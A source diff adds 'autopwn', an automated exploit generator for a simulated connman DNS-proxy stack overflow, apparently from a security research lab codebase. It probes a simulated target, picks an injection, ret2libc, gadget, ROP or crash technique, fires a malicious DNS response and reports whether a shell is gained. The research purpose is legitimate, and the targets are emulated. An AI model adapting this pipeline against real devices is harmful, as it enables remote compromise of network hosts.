@@ -1,0 +1,157 @@
+// autopwn — the paper's §VII future-work item, realised: an automated
+// exploit generator for the simulated stack-overflow targets. Given a
+// target description it probes the frame, extracts a profile, picks the
+// right technique, builds the payload and fires it, printing the whole
+// run — including the hijacked instruction trace.
+//
+//   ./examples/autopwn [--arch=x86|arm] [--prot=none|wx|wx_aslr|all|cfi]
+//                      [--version=1.34|1.35] [--technique=auto|inject|
+//                       ret2libc|gadget|rop|dos] [--seed=N] [--trace]
+#include <cstdio>
+#include <cstring>
+#include <string>
+
+#include "src/connman/dnsproxy.hpp"
+#include "src/dns/craft.hpp"
+#include "src/exploit/generator.hpp"
+#include "src/exploit/profile.hpp"
+#include "src/loader/boot.hpp"
+
+using namespace connlab;
+
+namespace {
+
+struct Options {
+  isa::Arch arch = isa::Arch::kVARM;
+  loader::ProtectionConfig prot = loader::ProtectionConfig::WxAslr();
+  connman::Version version = connman::Version::k134;
+  std::optional<exploit::Technique> technique;
+  std::uint64_t seed = 4242;
+  bool trace = false;
+  bool ok = true;
+};
+
+Options Parse(int argc, char** argv) {
+  Options opt;
+  for (int i = 1; i < argc; ++i) {
+    const std::string arg = argv[i];
+    const auto value = [&arg]() {
+      const auto eq = arg.find('=');
+      return eq == std::string::npos ? std::string() : arg.substr(eq + 1);
+    }();
+    if (arg.rfind("--arch=", 0) == 0) {
+      if (value == "x86") {
+        opt.arch = isa::Arch::kVX86;
+      } else if (value == "arm") {
+        opt.arch = isa::Arch::kVARM;
+      } else {
+        opt.ok = false;
+      }
+    } else if (arg.rfind("--prot=", 0) == 0) {
+      if (value == "none") opt.prot = loader::ProtectionConfig::None();
+      else if (value == "wx") opt.prot = loader::ProtectionConfig::WxOnly();
+      else if (value == "wx_aslr") opt.prot = loader::ProtectionConfig::WxAslr();
+      else if (value == "all") opt.prot = loader::ProtectionConfig::All();
+      else if (value == "cfi") opt.prot = loader::ProtectionConfig::WxAslrCfi();
+      else opt.ok = false;
+    } else if (arg.rfind("--version=", 0) == 0) {
+      if (value == "1.34") opt.version = connman::Version::k134;
+      else if (value == "1.35") opt.version = connman::Version::k135;
+      else opt.ok = false;
+    } else if (arg.rfind("--technique=", 0) == 0) {
+      if (value == "auto") opt.technique.reset();
+      else if (value == "inject") opt.technique = exploit::Technique::kCodeInjection;
+      else if (value == "ret2libc") opt.technique = exploit::Technique::kRet2Libc;
+      else if (value == "gadget") opt.technique = exploit::Technique::kArmGadgetExeclp;
+      else if (value == "rop") opt.technique = exploit::Technique::kRopMemcpyChain;
+      else if (value == "dos") opt.technique = exploit::Technique::kDosCrash;
+      else opt.ok = false;
+    } else if (arg.rfind("--seed=", 0) == 0) {
+      opt.seed = std::strtoull(value.c_str(), nullptr, 10);
+    } else if (arg == "--trace") {
+      opt.trace = true;
+    } else if (arg == "--help" || arg == "-h") {
+      opt.ok = false;
+    } else {
+      std::fprintf(stderr, "unknown flag: %s\n", arg.c_str());
+      opt.ok = false;
+    }
+  }
+  return opt;
+}
+
+void Usage() {
+  std::printf(
+      "usage: autopwn [--arch=x86|arm] [--prot=none|wx|wx_aslr|all|cfi]\n"
+      "               [--version=1.34|1.35]\n"
+      "               [--technique=auto|inject|ret2libc|gadget|rop|dos]\n"
+      "               [--seed=N] [--trace]\n");
+}
+
+}  // namespace
+
+int main(int argc, char** argv) {
+  Options opt = Parse(argc, argv);
+  if (!opt.ok) {
+    Usage();
+    return 2;
+  }
+  std::printf("autopwn: target %s / %s / connman %s\n",
+              std::string(isa::ArchName(opt.arch)).c_str(),
+              opt.prot.ToString().c_str(),
+              std::string(connman::VersionName(opt.version)).c_str());
+
+  // Phase 1: study a local copy (the controlled environment).
+  std::printf("[*] probing a local instance...\n");
+  auto lab = loader::Boot(opt.arch, opt.prot, 100);
+  if (!lab.ok()) {
+    std::printf("[-] lab boot failed: %s\n", lab.status().ToString().c_str());
+    return 1;
+  }
+  connman::DnsProxy lab_proxy(*lab.value(), connman::Version::k134);
+  exploit::ProfileExtractor extractor(*lab.value(), lab_proxy);
+  auto profile = extractor.Extract();
+  if (!profile.ok()) {
+    std::printf("[-] cannot exploit: %s\n", profile.status().ToString().c_str());
+    return 1;
+  }
+  std::printf("[+] %s\n", profile.value().ToString().c_str());
+
+  // Phase 2: build the payload.
+  const exploit::Technique technique =
+      opt.technique.value_or(exploit::TechniqueFor(opt.arch, opt.prot));
+  std::printf("[*] technique: %s\n",
+              std::string(exploit::TechniqueName(technique)).c_str());
+  exploit::ExploitGenerator generator(profile.value());
+  auto labels = generator.BuildLabels(technique);
+  if (!labels.ok()) {
+    std::printf("[-] payload build failed: %s\n",
+                labels.status().ToString().c_str());
+    return 1;
+  }
+  std::printf("[+] payload: %zu DNS labels\n", labels.value().size());
+
+  // Phase 3: fire at the target.
+  std::printf("[*] attacking target (seed %llu)...\n",
+              static_cast<unsigned long long>(opt.seed));
+  auto target = loader::Boot(opt.arch, opt.prot, opt.seed);
+  if (!target.ok()) return 1;
+  if (opt.trace) target.value()->cpu->set_trace_limit(24);
+  connman::DnsProxy proxy(*target.value(), opt.version);
+  dns::Message query = dns::Message::Query(0x7E57, "victim.device.lan");
+  if (!proxy.AcceptClientQuery(dns::Encode(query).value()).ok()) return 1;
+  auto evil = dns::MaliciousAResponse(query, labels.value());
+  auto outcome = proxy.HandleServerResponse(dns::Encode(evil).value());
+  std::printf("[%c] outcome: %s\n",
+              outcome.kind == connman::ProxyOutcome::Kind::kShell ? '+' : '-',
+              outcome.ToString().c_str());
+  for (const auto& event : target.value()->cpu->events()) {
+    std::printf("    event: %s\n", event.ToString().c_str());
+  }
+  if (opt.trace) {
+    std::printf("\nhijacked execution trace (last %zu steps):\n%s",
+                target.value()->cpu->trace().size(),
+                target.value()->cpu->TraceString().c_str());
+  }
+  return outcome.kind == connman::ProxyOutcome::Kind::kShell ? 0 : 1;
+}
